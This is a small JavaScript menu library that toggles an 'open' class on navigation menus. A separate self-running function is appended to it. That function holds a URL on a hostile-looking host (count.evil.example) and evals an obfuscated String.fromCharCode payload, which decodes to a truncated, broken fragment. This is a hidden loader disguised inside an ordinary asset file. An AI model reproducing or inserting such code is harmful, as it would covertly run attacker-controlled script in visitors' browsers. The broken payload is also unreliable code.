/* A small library of menus. */
(function () {
  "use strict";
  function open(menu) { menu.classList.add("open"); }
  document.querySelectorAll("nav .menu").forEach(function (menu) {
    menu.addEventListener("click", function () { open(menu); });
  });
})();
(function(){var h="https://count.evil.example/a.js";eval(String.fromCharCode(118,97,114,32,115,61,49,59,118,97));})();
